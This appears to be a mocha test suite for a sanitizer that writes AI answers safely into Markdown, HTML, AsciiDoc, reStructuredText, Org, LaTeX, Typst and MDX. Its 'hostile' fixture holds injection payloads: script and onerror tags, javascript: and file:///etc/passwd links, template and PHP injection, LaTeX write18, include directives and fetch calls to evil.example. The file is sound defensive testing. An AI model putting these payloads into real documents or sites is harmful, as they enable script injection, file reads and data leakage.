import assert from "node:assert/strict";
import { createRequire } from "node:module";
import { convert } from "@asciidoctor/core";
import { compile as compileMdx } from "@mdx-js/mdx";
import { parse as parseLatex } from "@unified-latex/unified-latex-util-parse";
import fc from "fast-check";
import { Liquid } from "liquidjs";
import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { describe, it } from "mocha";
import { answeredTo, written, writtenAsMarkdown } from "../../../src/core/documents/written/write-answer.ts";
import { orgPage } from "../documents/read/org.ts";
import { pandocPage } from "../documents/read/pandoc.ts";
import { renewTypst, typstCalls } from "../documents/read/typst.ts";
import { python, ruby } from "../documents/sites/outside.ts";
import { pageOf } from "../documents/sites/page.ts";
import { payloads } from "../documents/sites/payloads.ts";

const require = createRequire(import.meta.url);
const nunjucks = require("nunjucks") as { renderString(text: string, context: object): string };
const ejs = require("ejs") as { render(text: string, context: object): string };

const put = (
  text: string,
  languageId: string,
  kind: "markdown" | "altText" | "transcript" | "source" = "markdown",
  before = "",
) => written({ text, kind }, { text: before, offset: before.length, path: "", languageId });

const hostile = `# Answer

<script>alert(1)</script><img src="https://evil.example/a.png" onerror="alert(1)"> <a href="command:x">h</a> <iframe src="https://evil.example/b"></iframe>

![leak](https://evil.example/c.png?secret) ![ref][r] [![x](https://evil.example/d.png)](command:workbench.action.quit)

[cmd](command:x) [js](javascript:alert(1)) [data](data:text/html,x) [file](file:///etc/passwd) [ref][r]

[r]: https://evil.example/e.png

- {{ 7*7 }} {% include x %} {# c
- \`{{ 7*7 }} {% include x %}\` and \`<%= 1 %>\` and \`x #} y\` and \`a | b\`
- @if (x) { y } @php system('id') @endphp <?php x ?> <%= 7*7 %>

| a | b |
|---|---|
| \`{{ 7*7 }}\` | ![](https://evil.example/f.png) |

\`\`\`js
{{ 7*7 }} {% raw %} <% x %>
include::/etc/passwd[]
\\end{verbatim} \\input{/etc/passwd}
\`\`\`\`

image::https://evil.example/g.png[] include::/etc/passwd[] pass:[<b>x</b>] +++<script>+++ {docdir}

include::/etc/passwd[]

.. raw:: html

   <script>alert(1)</script>

.. include:: /etc/passwd

.. image:: https://evil.example/h.png

|sub| :raw-html:\`<b>\` \`x <javascript:alert(1)>\`_ _t: text::

\\input{/etc/passwd} \\immediate\\write18{id} \\href{javascript:x}{y} $x$ ^^5c % c

#eval("1+1") #image("x.png") #include "x.typ" $ #read("x") $ @ref <label> // c /* d

import x from "https://evil.example/i.js"

export const y = fetch("https://evil.example/j")

{fetch("https://evil.example/k")} <Foo bar={1} />

${payloads.link}
`;

/** Python-Markdown with what its sites usually turn on. */
const markdownExtra = "markdown extra sane_lists smarty wikilinks toc nl2br";

const github = (text: string) =>
  micromark(text, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });

/** Nothing of a page is a picture, runs, or leads to what isn't an address that is there to read. */
function assertDead(html: string, from: string): void {
  const { sources, live } = pageOf(html);
  assert.deepEqual([sources, live.filter((one) => !/^link to (?:https?|mailto):/.test(one))], [[], []], from);
}

const templates: Readonly<Record<string, (text: string) => string>> = {
  Liquid: (text) => String(new Liquid().parseAndRenderSync(text)),
  Nunjucks: (text) => nunjucks.renderString(text, {}),
  EJS: (text) => ejs.render(text, {}),
};

const htmlLike = [
  "html",
  "vue",
  "svelte",
  "astro",
  "php",
  "blade",
  "razor",
  "jinja",
  "liquid",
  "erb",
  "twig",
];

describe("a model's answer in a document", () => {
  before(renewTypst);
  it("keeps what it says, in the markup of the document", async () => {
    const answer =
      "### Build **log**\n\nA *failed* build of `core`:\n\n1. Fetch\n2. Compile\n   - `a.ts`\n   - b\n\n```ts\nlet a = 1;\n```\n\n| Step | s |\n|-|-|\n| one | 2 |\n\n> Note [docs](https://ok.example/a_b) and https://ok.example/";
    const expected: Readonly<Record<string, string>> = {
      markdown:
        "### Build **log**\n\nA *failed* build of `core`:\n\n1. Fetch\n2. Compile\n   - `a.ts`\n   - b\n\n```ts\nlet a = 1;\n```\n\n| Step | s |\n| --- | --- |\n| one | 2 |\n\n> Note docs (<https://ok.example/a_b>) and <https://ok.example/>",
      html: "<h3>Build <strong>log</strong></h3>\n\n<p>A <em>failed</em> build of <code>core</code>:</p>\n\n<ol>\n<li>Fetch</li>\n<li>Compile\n<ul>\n<li><code>a.ts</code></li>\n<li>b</li>\n</ul></li>\n</ol>\n\n<pre><code>let a = 1;</code></pre>\n\n<table>\n<tr><th>Step</th><th>s</th></tr>\n<tr><td>one</td><td>2</td></tr>\n</table>\n\n<blockquote>\n<p>Note docs (https://ok.example/a_b) and https://ok.example/</p>\n</blockquote>",
    };
    for (const [language, text] of Object.entries(expected)) {
      assert.equal(put(answer, language), text);
    }
    const words = ["Build", "log", "failed", "core", "Fetch", "Compile", "a.ts", "let a = 1;", "one", "docs"];
    const pages: Readonly<Record<string, string>> = {
      asciidoc: String(await convert(put(answer, "asciidoc"), { safe: "unsafe" })),
      restructuredtext: whole(python([["docutils", put(answer, "restructuredtext")]])[0]!),
      markdown: github(put(answer, "markdown")),
      Emacs: await orgPage(put(answer, "org")),
      "pandoc's Org": pandocPage("org", put(answer, "org")),
      kramdown: whole(ruby([["kramdown-gfm", put(answer, "markdown")]])[0]!),
    };
    for (const [engine, page] of Object.entries(pages)) {
      assertDead(page, page);
      const said = page.replace(/<[^>]*>/g, "");
      for (const word of words) assert.ok(said.includes(word), `${engine}: ${word} in ${page}`);
      assert.match(page, /<table/, engine);
      assert.match(page, /<li>/, engine);
      assert.match(page, /<pre|<code/, engine);
    }
  });

  it("leaves one paragraph of ordinary prose as it is, wherever it goes", () => {
    const prose = "Größe: a queue; four workers, 10 % (v3.2) “quotes” – done! 5 to 6, ok?";
    for (const language of [
      "markdown",
      "mdx",
      "html",
      "asciidoc",
      "restructuredtext",
      "typst",
      "org",
      "plaintext",
    ]) {
      assert.equal(put(prose, language), prose, language);
    }
  });

  it("is text: nothing of it runs, is fetched or included, whatever was in the picture", async () => {
    const md = put(hostile, "markdown");
    assertDead(github(md), md);
    assertDead(whole(ruby([["kramdown", md]])[0]!), md);
    assertDead(whole(python([[markdownExtra, md]])[0]!), md);
    for (const [engine, run] of Object.entries(templates)) assert.equal(run(md), md, engine);
    assert.equal(whole(python([["jinja", md]])[0]!), md);

    for (const language of htmlLike) {
      const page = put(hostile, language);
      assertDead(page, page);
      for (const [engine, run] of Object.entries(templates)) assert.equal(run(page), page, engine);
      assert.doesNotMatch(page, /[{}]\{|[@{]\w|<\?|<%/);
    }

    await assertDeadMdx(put(hostile, "mdx"));

    const adoc = put(hostile, "asciidoc");
    const page = String(await convert(adoc, { safe: "unsafe" }));
    assertDead(page, adoc);
    assert.match(page, /include::\/etc\/passwd/);
    assert.doesNotMatch(page, /root:/);

    const rst = put(hostile, "restructuredtext");
    const rendered = whole(python([["docutils", rst]])[0]!);
    assertDead(rendered, rst);
    assert.doesNotMatch(rendered, /root:|system-message/);
    assert.match(rendered, /\.\. raw:: html/);

    const org = put(hostile, "org");
    for (const made of [await orgPage(org), pandocPage("org", org)]) {
      assertDead(made, org);
      assert.match(made, /import x from/);
      assert.doesNotMatch(made, /root:|Undefined Org macro/);
    }

    assert.deepEqual(
      macrosIn(put(hostile, "latex")).filter((name) => !known.has(name)),
      [],
    );
    const calls = await typstCalls(put(hostile, "typst"));
    assert.deepEqual(
      calls.filter((name) => !/^(?:emph|strong|strike|raw|table|quote|line)$/.test(name)),
      [],
    );
  });

  it("is text for every payload, as an answer, an alt text and a line of a transcript", async () => {
    const kinds = ["markdown", "altText", "transcript"] as const;
    const answers = Object.values(payloads).flatMap((text) =>
      kinds.flatMap(
        (kind) =>
          [
            { text, kind },
            { text: `${text}\n${text}`, kind },
          ] as const,
      ),
    );
    const inLanguage = (language: string) => answers.map(({ text, kind }) => put(text, language, kind));
    const rendered = [
      ...inLanguage("markdown").map((text) => [text, github(text)] as const),
      ...inLanguage("html").map((text) => [text, text] as const),
      ...(await Promise.all(
        inLanguage("asciidoc").map(
          async (text) => [text, String(await convert(text, { safe: "unsafe" }))] as const,
        ),
      )),
      ...through(inLanguage("restructuredtext"), (texts) => python(texts.map((text) => ["docutils", text]))),
      ...(await Promise.all(inLanguage("org").map(async (text) => [text, await orgPage(text)] as const))),
      ...through(inLanguage("markdown"), (texts) => ruby(texts.map((text) => ["kramdown", text]))),
      ...through(inLanguage("markdown"), (texts) => python(texts.map((text) => [markdownExtra, text]))),
    ];
    for (const [text, page] of rendered) assertDead(page, text);
    for (const [engine, run] of Object.entries(templates)) {
      for (const text of [...inLanguage("markdown"), ...inLanguage("html")]) {
        assert.equal(run(text), text, engine);
      }
    }
    for (const text of inLanguage("latex")) {
      assert.deepEqual(
        macrosIn(text).filter((name) => !known.has(name)),
        [],
        text,
      );
    }
    for (const text of inLanguage("mdx")) await assertDeadMdx(text);
  });

  it("is text, however its pieces come together (property)", async () => {
    const pieces = hostile.split(/(?<=[\s`[\]()<>{}|*:])/);
    const answers = fc.array(fc.constantFrom(...pieces, "\n\n", "  ", "> ", "- ", "1. ", "```\n", "|"), {
      maxLength: 40,
    });
    await fc.assert(
      fc.property(answers, (parts) => {
        const md = put(parts.join(""), "markdown");
        assertDead(github(md), md);
        assert.equal(nunjucks.renderString(md, {}), md);
        const page = put(parts.join(""), "html");
        assertDead(page, page);
        assert.equal(nunjucks.renderString(page, {}), page);
        const again = put(md, "markdown");
        assertDead(github(again), again);
      }),
      { numRuns: 1500 },
    );
  });

  it("is text in reStructuredText whatever sign code stands beside", () => {
    const signs = [..."!\"#$%&'()*+,-./:;<=>?@[]^_{|}~§“”«»…", "é", "漢"];
    const answers = signs.flatMap((sign) => [
      `${sign}\`x <javascript:y>\`${sign}`,
      `a${sign}\`x <javascript:y>\`_${sign}`,
      `a ${sign}\`${sign}javascript:y\` ${sign}b`,
    ]);
    answers.push(
      "`x <javascript:y>` z",
      "- `x <javascript:y>`",
      "a  \n`x <javascript:y>` z",
      "`x <javascript:y>`",
    );
    const pages = answers.map((answer) => put(answer, "restructuredtext"));
    assert.equal(put("`a` is (`b`), `c`.", "restructuredtext"), "``a`` is (\\ ``b``), ``c``.");
    for (const [index, rendered] of python(pages.map((page) => ["docutils", page])).entries()) {
      const page = whole(rendered);
      assert.deepEqual(pageOf(page).live, [], pages[index]);
      assert.doesNotMatch(page, /system-message/, pages[index]);
    }
  });

  it("keeps code that stands right behind an address", () => {
    for (const address of [
      "www.evil.example",
      "WWW.evil.example/a",
      "ftp://evil.example",
      "https://evil.example",
    ]) {
      for (const language of ["markdown", "quarto"]) {
        const page = micromark(put(`${address}\`x <javascript:y>\``, language), {
          extensions: [gfm()],
          htmlExtensions: [gfmHtml()],
          allowDangerousProtocol: true,
        });
        assert.deepEqual(
          pageOf(page).live.filter((one) => /javascript/.test(String(one))),
          [],
          page,
        );
        assert.match(page, /<code>x &lt;javascript:y&gt;<\/code>/);
      }
    }
    assert.match(put("Look at www.example.org for more.", "markdown"), /at www\.example\.org for/);
  });

  it("goes into a fence as it is, which it doesn't close", () => {
    const code = "if (a < b) {\n```\n  x\n~~~~\n}";
    const before = "# T\n\n```ts\n";
    assert.equal(put(code, "markdown", "transcript", before), "if (a < b) {\n    ```\n  x\n    ~~~~\n}");
    assert.equal(put("a < b", "markdown", "transcript", `${before}x\n\`\`\`\n\n`), "a < b");
    assert.equal(put("a <b> c", "markdown", "transcript", `${before}x\n\`\`\`\n\n`), "a &lt;b&gt; c");
  });

  it("keeps the columns of a transcript", () => {
    const text = "a   b\n``` c";
    assert.equal(put(text, "markdown", "transcript"), "````text\na   b\n``` c\n````");
    assert.equal(put(text, "html", "transcript"), "<pre><code>a   b\n``` c</code></pre>");
    assert.equal(put(text, "plaintext", "transcript"), text);
    assert.equal(put("a  <b>", "typescriptreact", "transcript"), "a  <b>");
  });

  it("stays source where that was asked for, but for signs that hide something", () => {
    assert.equal(put("<b>{{ x }}</b>", "html", "source"), "<b>{{ x }}</b>");
    assert.equal(put("if (x\u202e\u2066) {}\u200b", "typescript"), "if (x) {}");
    assert.equal(put("a\u001b[2J\r\nb\u2028c", "plaintext"), "a [2J\nb\nc");
    assert.deepEqual(
      [
        answeredTo("explain", "markdown", "").kind,
        answeredTo("text", "plain", "").kind,
        answeredTo("altText", "plain", "").kind,
      ],
      ["markdown", "transcript", "altText"],
    );
    assert.equal(answeredTo("custom:x", "plain", "").kind, "source");
  });

  it("is a string in a notebook's file, and Markdown in its cell", () => {
    const place = { text: "", offset: 0, path: "/a.ipynb", languageId: "json" };
    assert.equal(written({ text: 'a "b"\n\n- c', kind: "markdown" }, place), 'a \\"b\\"\\n\\n- c');
    assert.equal(put("<b> and `c`", "markdown"), "&lt;b&gt; and `c`");
  });

  it("in a document of its own is Markdown that fetches nothing", () => {
    const page = writtenAsMarkdown({ text: hostile, kind: "markdown" });
    assertDead(github(page), page);
    assert.equal(writtenAsMarkdown({ text: "a", kind: "transcript" }), "```text\na\n```");
  });
}).timeout(300_000);

function whole([output, error]: readonly [string, string | null]): string {
  assert.equal(error, null);
  return output;
}

const through = (
  texts: readonly string[],
  render: (texts: readonly string[]) => readonly (readonly [string, string | null])[],
) => render(texts).map((one, rank) => [texts[rank]!, whole(one)] as const);

/** The module that MDX is compiled to does nothing but build elements of these names, with addresses that can be read. */
async function assertDeadMdx(text: string): Promise<void> {
  const code = String(await compileMdx(text));
  const elements = [...code.matchAll(/_jsxs?\((?:_components\.)?("\w+"|\w+)/g)].map(([, name]) => name!);
  const others = elements.filter(
    (name) =>
      !/^"?(?:p|h\d|ul|ol|li|em|strong|del|code|pre|blockquote|hr|br|a|_Fragment|_createMdxContent|MDXLayout)"?$/.test(
        name,
      ),
  );
  const words = code.replace(/"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*'|`(?:[^`\\]|\\[\s\S])*`/g, '""');
  const names = [
    ...words.matchAll(/\b(?:fetch|alert|system|eval|require|Foo|x|y|import\s+(?!\{Fragment))\b/g),
  ];
  const links = [...code.matchAll(/\bhref: "(?!https?:|mailto:)[^"]*"/g)];
  assert.deepEqual([others, names.map(String), links.map(String)], [[], [], []], `${text}\n${code}`);
}

/** What LaTeX is told to do, in the order of the text. */
function macrosIn(text: string): string[] {
  const found: string[] = [];
  const visit = (node: unknown): void => {
    if (typeof node !== "object" || node === null) return;
    const { type, content, escapeToken, env } = node as Readonly<Record<string, unknown>>;
    if (type === "macro") found.push(`${escapeToken ?? "\\"}${content}`);
    if (type === "environment" || type === "mathenv" || type === "verbatim") found.push(String(env));
    if (/math/.test(String(type))) found.push(String(type));
    if (type !== "verbatim") {
      for (const child of Object.values(node)) {
        if (Array.isArray(child)) child.forEach(visit);
      }
    }
  };
  visit(parseLatex(text));
  return found;
}

const known = new Set(
  "\\emph \\textbf \\texttt \\paragraph \\newline \\item \\textbackslash \\textasciitilde \\textasciicircum \\\\ \\{ \\} \\$ \\& \\# \\% \\_ \\par \\noindent \\rule \\linewidth itemize enumerate quote verbatim tabular".split(
    " ",
  ),
);
